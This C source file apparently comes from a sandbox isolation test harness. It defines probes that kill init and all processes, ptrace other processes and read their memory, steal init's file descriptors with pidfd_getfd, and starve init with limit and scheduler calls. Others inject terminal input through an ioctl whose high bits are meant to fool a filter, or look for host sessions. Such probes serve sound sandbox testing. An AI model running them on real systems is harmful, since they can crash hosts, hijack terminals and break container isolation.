/* proc.c -- laying hands on processes: init, the host's, and terminals. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define NR_pidfd_send_signal 424
#define NR_pidfd_open        434
#define NR_pidfd_getfd       438

static void signal_pid(char **args)
{
	say_errno(kill((pid_t)strtol(arg(args, 0), NULL, 0),
		       (int)arg_u64(args, 1)),
		  "kill");
}

/* Send SIGKILL, SIGSTOP and others to init, then check that it still reaps: an
 * orphan of ours must become its child and disappear. */
static void signal_init(char **args)
{
	static const int signals[] = { SIGKILL, SIGSTOP, SIGTERM, SIGSEGV,
				       SIGHUP,  SIGINT,  SIGUSR1, SIGCHLD };
	pid_t middle;

	(void)args;
	for (size_t i = 0; i < sizeof signals / sizeof *signals; i++)
		(void)kill(1, signals[i]);
	middle = fork();
	if (middle == 0) {
		pid_t orphan = fork();

		if (orphan == 0) {
			pause_ms(50);
			_exit(0);
		}
		_exit(0);
	}
	if (middle < 0 || waitpid(middle, NULL, 0) < 0)
		say(errno_name(errno), "fork");
	pause_ms(120);
	if (kill(1, 0) < 0 && errno == ESRCH)
		say("won", "init is gone");
	say("alive", "init lives");
}

/* Signal every process that can be signalled, by pid -1, which does not include
 * the sender. */
static void signal_all(char **args)
{
	(void)args;
	(void)kill(-1, SIGKILL);
	(void)kill(0, 0);
	say("tried", "kill(-1)");
}

static void open_only(char **args)
{
	say_errno(open(arg(args, 0), O_WRONLY), args[0]);
}

static void trace_pid(char **args)
{
	pid_t pid = (pid_t)arg_u64(args, 0);

	say_errno(ptrace(PTRACE_SEIZE, pid, NULL, NULL), "PTRACE_SEIZE");
}

static void peek_pid(char **args)
{
	char buf[16];
	struct iovec to = { buf, sizeof buf }, from = { &environ, sizeof buf };

	say_errno(
		process_vm_readv((pid_t)arg_u64(args, 0), &to, 1, &from, 1, 0),
		"process_vm_readv");
}

static void open_pid_file(char **args)
{
	char path[128];
	char parent[16];
	const char *pid = arg(args, 0);
	int fd;

	(void)snprintf(parent, sizeof parent, "%d", getppid());
	(void)snprintf(path, sizeof path, "/proc/%s/%s",
		       strcmp(pid, "parent") == 0 ? parent : pid, arg(args, 1));
	fd = open(path, args[2] ? (int)arg_u64(args, 2) : O_RDONLY);
	say_errno(fd, path);
}

static void read_pid_link(char **args)
{
	char path[128], to[4096];

	(void)snprintf(path, sizeof path, "/proc/%s/%s", arg(args, 0),
		       arg(args, 1));
	say_errno(readlink(path, to, sizeof to), path);
}

/* Try to take a descriptor from init: some of them lead to the host. */
static void steal_fd(char **args)
{
	long pidfd = syscall(NR_pidfd_open, (pid_t)arg_u64(args, 0), 0);

	if (pidfd < 0)
		say(errno_name(errno), "pidfd_open");
	for (int fd = 0; fd < 64; fd++)
		if (syscall(NR_pidfd_getfd, pidfd, fd, 0) >= 0)
			say("won", "descriptor %d", fd);
	say(errno_name(errno), "pidfd_getfd");
}

/* Lower the limits of a process: those of init would hold for the next
 * command. */
static void limit_pid(char **args)
{
	struct rlimit small = { 0, 0 };

	say_errno(prlimit((pid_t)arg_u64(args, 0), RLIMIT_FSIZE, &small, NULL),
		  "prlimit");
}

/* Harm init with calls that only need the same user id: set a limit that ends
 * it, or a priority that makes it late. */
static void hurt_init(char **args)
{
	const char *how = arg(args, 0);
	uint32_t attr[12] = { sizeof attr, SCHED_IDLE };
	struct sched_param param = { 0 };
	struct rlimit none = { 0, 0 };
	unsigned long cpu = 1;
	const struct {
		const char *how;
		long call, args[4];
	} ways[] = {
		{ "limit", SYS_prlimit64, { 1, RLIMIT_CPU, (long)&none, 0 } },
		{ "affinity",
		  SYS_sched_setaffinity,
		  { 1, sizeof cpu, (long)&cpu, 0 } },
		{ "attr", SYS_sched_setattr, { 1, (long)attr, 0, 0 } },
		{ "param", SYS_sched_setparam, { 1, (long)&param, 0, 0 } },
		{ "policy",
		  SYS_sched_setscheduler,
		  { 1, SCHED_IDLE, (long)&param, 0 } },
		{ "nice", SYS_setpriority, { PRIO_PROCESS, 1, 19, 0 } },
		{ "nice-user", SYS_setpriority, { PRIO_USER, 0, 19, 0 } },
		{ "io", SYS_ioprio_set, { 1, 1, 3 << 13, 0 } },
		{ "io-user", SYS_ioprio_set, { 3, 1000, 3 << 13, 0 } },
	};

	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
		if (strcmp(ways[i].how, how) == 0)
			say_errno(syscall(ways[i].call, ways[i].args[0],
					  ways[i].args[1], ways[i].args[2],
					  ways[i].args[3]),
				  how);
	say("usage", "no way is called %s", how);
}

/* Reach a process of the host by its number, which the fixture gives. */
static void reach_pid(char **args)
{
	pid_t pid = (pid_t)arg_u64(args, 0);
	char path[64], buf[256];

	(void)snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	if (file_read(path, buf, sizeof buf) > 0 && args[1] &&
	    strstr(buf, args[1]))
		say("won", "%s", path);
	if (syscall(NR_pidfd_open, pid, 0) >= 0 && args[1])
		say("maybe", "some process has that number");
	say_errno(kill(pid, 0), "kill 0");
}

/* Push a byte into the input of a terminal.  The kernel looks only at the low 32
 * bits of the request, so the rest is free to deceive a filter. */
static void push_input(char **args)
{
	unsigned long what = arg_u64(args, 0);
	char c = 'x';

	for (int fd = 0; fd < 3; fd++)
		if (syscall(SYS_ioctl, fd, what, &c) == 0)
			say("won", "descriptor %d", fd);
	say(errno_name(errno), "ioctl 0x%lx", what);
}

/* Look for a terminal: the vessel has none. */
static void own_terminal(char **args)
{
	int fd = open("/dev/tty", O_RDWR | O_NOCTTY);

	(void)args;
	if (fd >= 0)
		say("won", "/dev/tty");
	fd = open("/dev/ptmx", O_RDWR | O_NOCTTY);
	if (fd >= 0)
		say("won", "/dev/ptmx");
	if (getsid(0) == 0)
		say("won", "the session is one of the host's");
	say(errno_name(errno), "no terminal");
}

/* Session and process group must be the command's own: an id of 0 belongs to a
 * process outside of this PID namespace. */
static void outer_session(char **args)
{
	(void)args;
	if (getsid(0) <= 0)
		say("won", "session %d", getsid(0));
	if (getpgrp() <= 0)
		say("won", "process group %d", getpgrp());
	say("own", "session %d", getsid(0));
}

/* Lower our oom_score_adj, so that the kernel would kill another process
 * first. */
static void oom_lower(char **args)
{
	char before[32];

	if (file_read("/proc/self/oom_score_adj", before, sizeof before) < 0)
		say(errno_name(errno), "oom_score_adj");
	before[strcspn(before, "\n")] = '\0';
	if (file_write("/proc/self/oom_score_adj", 0, arg(args, 0)) < 0)
		say(errno_name(errno), "from %s", before);
	say("won", "from %s to %s", before, args[0]);
}

static void raise_limit(char **args)
{
	struct rlimit r;
	int what = (int)arg_u64(args, 0);

	if (getrlimit((__rlimit_resource_t)what, &r) < 0)
		say(errno_name(errno), "getrlimit");
	if (r.rlim_max == RLIM_INFINITY)
		say("won", "limit %d is open already", what);
	r.rlim_max += 1;
	r.rlim_cur = r.rlim_max;
	say_errno(setrlimit((__rlimit_resource_t)what, &r), "setrlimit");
}

/* Lower the priority of every process of the same user, which may include
 * processes on the host. */
static void renice_user(char **args)
{
	errno = 0;
	(void)setpriority(PRIO_USER, 0, 5);
	(void)setpriority(PRIO_PROCESS, (id_t)arg_u64(args, 0), 5);
	say("tried", "%s", errno_name(errno));
}

const struct attack attacks_proc[] = {
	{ "kill", signal_pid },
	{ "kill-init", signal_init },
	{ "kill-all", signal_all },
	{ "open-only", open_only },
	{ "trace", trace_pid },
	{ "peek", peek_pid },
	{ "pid-file", open_pid_file },
	{ "pid-link", read_pid_link },
	{ "steal-fd", steal_fd },
	{ "prlimit", limit_pid },
	{ "reach-pid", reach_pid },
	{ "ioctl", push_input },
	{ "terminal", own_terminal },
	{ "session", outer_session },
	{ "oom-lower", oom_lower },
	{ "raise-limit", raise_limit },
	{ "renice", renice_user },
	{ "hurt-init", hurt_init },
	{ 0 },
};
